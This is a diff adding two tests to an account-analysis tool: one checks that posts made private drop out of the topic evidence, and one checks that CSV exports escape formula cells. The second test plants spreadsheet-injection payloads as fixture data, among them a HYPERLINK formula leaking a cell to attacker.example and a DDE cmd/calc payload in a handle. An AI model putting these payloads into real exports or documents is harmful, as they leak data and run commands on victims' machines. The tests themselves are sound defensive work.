@@ -169,3 +169,38 @@ def test_report_on_a_mastodon_account_after_classify(workspaces, tmp_path):
     assert out.exit_code == 0, out.output
     info = json.loads(out.output)
     assert info["account"]["account_id"] == OWNER.split(":", 1)[1] and "topics" in info["sections"]
+
+
+def test_topics_stored_before_the_rule_never_show_a_private_post(tmp_path):
+    """Evidence classified while a post was public is not shown once the post is private (or was all along)."""
+    from stature.topics.store import account_topics
+    from surfaces import hostile_workspace
+    with hostile_workspace(tmp_path / "w.duckdb") as ws:
+        shown = {p["post_id"] for t in account_topics(ws, "mastodon:evil")["topics"]
+                 for p in t["evidence"].get("top_posts", [])}
+        hidden = sorted(shown)[0]
+        ws.con.execute("UPDATE posts SET visibility = 'followers' WHERE post_id = ?", [hidden])
+        after = {p["post_id"] for t in account_topics(ws, "mastodon:evil")["topics"]
+                 for p in t["evidence"].get("top_posts", [])}
+    assert after == shown - {hidden} and after
+    body = App(tmp_path / "w.duckdb").handle("GET", "/api/accounts/mastodon/evil", HOST).body.decode()
+    assert f'"{hidden}"' not in body and f'"{sorted(after)[0]}"' in body
+
+
+def test_csv_exports_neutralise_formula_cells(tmp_path):
+    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) starts with ' in every CSV written."""
+    import csv
+    from stature.model import Account, Post
+    from stature.workspace import Writer
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+    with Workspace(tmp_path / "w.duckdb") as ws:
+        with ws.transaction() as con:
+            writer = Writer(con, 1)
+            writer.add(Account("mastodon", "m1", handle="+cmd|' /C calc'!A0", display_name="@SUM(1+1)"))
+            writer.add(Post("mastodon", "p1", "m1", created_at="2024-03-01T12:00:00", text=formula))
+            writer.add(Post("mastodon", "p2", "m1", created_at="2024-03-02T12:00:00", text="-2+3"))
+            writer.finish()
+        written = export(ws, tmp_path / "csv", "csv")
+    cells = [cell for path in written for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
+    assert "'" + formula in cells and "'-2+3" in cells and "'@SUM(1+1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell starts a formula"
